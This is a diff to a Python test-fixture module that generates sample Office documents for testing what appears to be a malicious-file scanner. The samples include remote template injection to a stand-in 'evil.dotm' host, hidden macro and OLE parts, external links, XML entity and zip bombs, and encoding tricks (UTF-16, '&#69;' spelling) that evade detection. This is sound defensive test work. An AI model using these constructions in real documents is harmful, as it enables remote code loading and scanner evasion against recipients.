@@ -151,21 +151,64 @@ def page_then_pdf() -> bytes:
     return PAGE + b"\n" + pdf()
 
 
+SCHEMAS = "http://schemas.openxmlformats.org"
+OF_OFFICE = "application/vnd.openxmlformats-officedocument"
+SHEET = "xl/workbook.xml"
+_MAIN = {"word/document.xml": "wordprocessingml.document", SHEET: "spreadsheetml.sheet"}
+
+
+def content_types(part: str = "word/document.xml", main: str = "", *more: str) -> str:
+    """What the parts of a document are."""
+    return (
+        f'<?xml version="1.0"?><Types xmlns="{SCHEMAS}/package/2006/content-types">'
+        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
+        '<Default Extension="xml" ContentType="application/xml"/><Default Extension="png" ContentType="image/png"/>'
+        '<Default Extension="bin" ContentType="image/png"/><Default Extension="html" ContentType="text/html"/>'
+        f'<Override PartName="/{part}" ContentType="{main or f"{OF_OFFICE}.{_MAIN[part]}.main+xml"}"/>'
+        f"{''.join(more)}</Types>"
+    )
+
+
+def relationship(kind: str, target: str, mode: str = ' TargetMode="External"', prefix: str = "", more: str = "") -> str:
+    """What a part refers to."""
+    p, xmlns = (f"{prefix}:", f"xmlns:{prefix}") if prefix else ("", "xmlns")
+    return (
+        f'<?xml version="1.0"?><{p}Relationships {xmlns}="{SCHEMAS}/package/2006/relationships"><{p}Relationship Id="r1" '
+        f'{more}Type="{SCHEMAS}/officeDocument/2006/relationships/{kind}" Target="{target}"{mode}/></{p}Relationships>'
+    )
+
+
 def office(part: str = "word/document.xml", extra: dict[str, bytes] | None = None) -> bytes:
     """A document or a sheet, with something besides. The same bytes each time."""
     target = io.BytesIO()
-    parts = {"[Content_Types].xml": b"<Types/>", "_rels/.rels": b"<Relationships/>", part: b"<document>Ada</document>"}
+    parts = {
+        "[Content_Types].xml": content_types(part).encode(),
+        "_rels/.rels": relationship("officeDocument", part, mode="").encode(),
+        part: b"<document>Ada</document>",
+    }
     with zipfile.ZipFile(target, "w") as archive:
         for name, content in (parts | (extra or {})).items():
             archive.writestr(zipfile.ZipInfo(name), content, zipfile.ZIP_DEFLATED)
     return target.getvalue()
 
 
-SHEET = "xl/workbook.xml"
-REMOTE = (
-    b'<Relationships><Relationship Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
-    b'attachedTemplate" Target="https://example.com/evil.dotm" TargetMode="External"/></Relationships>'
-)
+def refers(said: str | bytes, **parts: bytes) -> bytes:
+    """A document that refers to something, and has parts named `a__bin` for `a.bin`."""
+    content = said.encode() if isinstance(said, str) else said
+    extra = {f"word/{name.replace('__', '.')}": one for name, one in parts.items()}
+    return office(extra={"word/_rels/document.xml.rels": content, **extra})
+
+
+def is_of(*said: str | bytes) -> bytes:
+    """A document whose parts say this of themselves."""
+    [types] = said
+    content = types if isinstance(types, bytes) else types.encode()
+    return office(extra={"[Content_Types].xml": content, "word/other.bin": b"x"})
+
+
+TEMPLATE = relationship("attachedTemplate", "https://example.com/evil.dotm")
+MACROS = "application/vnd.ms-word.document.macroEnabled.main+xml"
+VBA = '<Override PartName="/word/other.bin" ContentType="application/vnd.ms-office.vbaProject"/>'
 LAUGHS = b'<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;">]><x>&b;</x>'
 
 
@@ -246,7 +289,36 @@ SAMPLES = [
     Sample("sheet.docx", lambda: office(SHEET), Fault.LIES),
     Sample("macros.docx", lambda: office(extra={"word/vbaProject.bin": b"x"}), Fault.MACROS),
     Sample("object.docx", lambda: office(extra={"word/embeddings/oleObject1.bin": b"x"}), Fault.MACROS),
-    Sample("remote.docx", lambda: office(extra={"word/_rels/settings.xml.rels": REMOTE}), Fault.ACTIVE),
+    Sample("clicks.docx", lambda: refers(relationship("hyperlink", "https://example.com/")), DOCX),
+    Sample("wide.docx", lambda: refers(relationship("styles", "styles.xml", mode="").encode("utf-16")), DOCX),
+    Sample("remote.docx", lambda: office(extra={"word/_rels/settings.xml.rels": TEMPLATE.encode()}), Fault.ACTIVE),
+    Sample("remote-wide.docx", lambda: refers(TEMPLATE.encode("utf-16")), Fault.ACTIVE),
+    Sample("remote-spelled.docx", lambda: refers(TEMPLATE.replace("External", "&#69;xternal")), Fault.ACTIVE),
+    Sample("remote-unsaid.docx", lambda: refers(relationship("image", "https://example.com/a", mode="")), Fault.ACTIVE),
+    Sample("remote-named.docx", lambda: refers(relationship("image", "//example.com/a", prefix="r")), Fault.ACTIVE),
+    Sample(
+        "remote-after.docx",
+        lambda: refers(relationship("frame", "https://example.com/", more='x="&gt;>" ')),
+        Fault.ACTIVE,
+    ),
+    Sample("remote-part.docx", lambda: refers(relationship("subDocument", "https://example.com/a.docx")), Fault.ACTIVE),
+    Sample(
+        "remote-book.xlsx",
+        lambda: office(SHEET, {"xl/_rels/a.xml.rels": relationship("externalLinkPath", "//a/b").encode()}),
+        Fault.ACTIVE,
+    ),
+    Sample("chunk.docx", lambda: refers(relationship("aFChunk", "a.html", mode=""), a__html=PAGE), Fault.ACTIVE),
+    Sample("page-in-it.docx", lambda: office(extra={"word/a.html": PAGE}), Fault.CARRIES_FILES),
+    Sample("program-in-it.docx", lambda: office(extra={"word/a.exe": b"MZ"}), Fault.CARRIES_FILES),
+    Sample(
+        "object-renamed.docx", lambda: refers(relationship("oleObject", "o.bin", mode=""), o__bin=b"x"), Fault.MACROS
+    ),
+    Sample("macros-renamed.docx", lambda: is_of(content_types("word/document.xml", "", VBA)), Fault.MACROS),
+    Sample("macros-wide.docx", lambda: is_of(content_types(main=MACROS).encode("utf-16")), Fault.MACROS),
+    Sample("macros-spelled.docx", lambda: is_of(content_types(main=MACROS.replace("E", "&#69;"))), Fault.MACROS),
+    Sample("twice.docx", lambda: office(extra={"WORD/Document.xml": b"<a/>"}), Fault.DAMAGED),
+    Sample("unread.docx", lambda: refers(b"<Relationships>"), Fault.DAMAGED),
+    Sample("laughs-wide.docx", lambda: office(extra={"word/a.xml": LAUGHS.decode().encode("utf-16")}), Fault.BOMB),
     Sample("bomb.docx", lambda: office(extra={"word/media/a.bin": bytes(30 * 1024**2)}), Fault.BOMB),
     Sample("laughs.xlsx", lambda: office(SHEET, {"xl/a.xml": LAUGHS}), Fault.BOMB),
     Sample("nested.docx", lambda: office(extra={"word/media/more.zip": plain_zip()}), Fault.CARRIES_FILES),
